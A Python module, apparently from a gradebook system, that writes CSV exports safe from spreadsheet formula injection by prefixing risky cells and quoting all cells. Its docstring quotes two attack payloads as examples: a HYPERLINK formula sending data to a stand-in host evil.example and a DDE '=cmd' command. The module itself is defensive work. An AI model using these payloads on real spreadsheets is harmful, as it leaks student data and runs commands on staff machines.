"""CSV files that staff open in a spreadsheet (gradebooks, dashboard tables): the one writer of them,
which keeps a cell from being read as a formula, and the byte-order mark their downloads start with.

A student chooses their own name. Written as it is, `=HYPERLINK("https://evil.example/?"&A2, "x")`
runs when the instructor opens the gradebook in Excel, LibreOffice or Google Sheets. Following the
OWASP guidance (https://owasp.org/www-community/attacks/CSV_Injection), a cell that starts with
= + - @, a tab or a carriage return gets a leading single quote, which spreadsheets show as text;
a plain number ("-2.5", "1e-3") is left as it is so that grades stay numbers.

The first character is not enough: Excel set to a ";" list separator (Korean and most European
Windows locales) splits an unquoted cell at ";", so the long export's answer cell
`x=1;=cmd|' /C calc'!A0; y=2` became a cell starting with "=cmd" that Excel ran. Every cell is
therefore written quoted (csv.QUOTE_ALL): inside quotes no separator splits it, whatever the
spreadsheet's list separator is; a quoted number is still read as a number.
"""
from __future__ import annotations

import csv
import io
import re
from typing import Any, Iterable

#: The UTF-8 byte-order mark a downloaded CSV starts with: Excel reads a CSV without it in the system's
#: legacy code page (CP949 on Korean Windows), garbling every Korean name and title; with it, UTF-8.
#: Canvas's and Moodle's grade importers skip it (README: Importing the gradebook CSVs).
BOM = "\ufeff"

#: The first characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> str:
    """`value` as the text of one CSV cell that no spreadsheet runs: None is "", numbers are their
    str(), and text starting with one of FORMULA_STARTS (and not a plain number) gets a leading "'"."""
    if value is None:
        return ""
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def write_rows(out, rows: Iterable[Iterable[Any]], bom: bool = False) -> None:
    """Write `rows` (each a sequence of cells) to the text stream `out` (a file, a StringIO, an
    HttpResponse) as CSV with CRLF line ends, every cell through safe_cell and quoted; with `bom`, BOM
    first (a download a spreadsheet opens)."""
    if bom:
        out.write(BOM)
    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_ALL)
    writer.writerows([safe_cell(c) for c in row] for row in rows)


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """`rows` as the text of a CSV file (write_rows into a string)."""
    buf = io.StringIO()
    write_rows(buf, rows)
    return buf.getvalue()
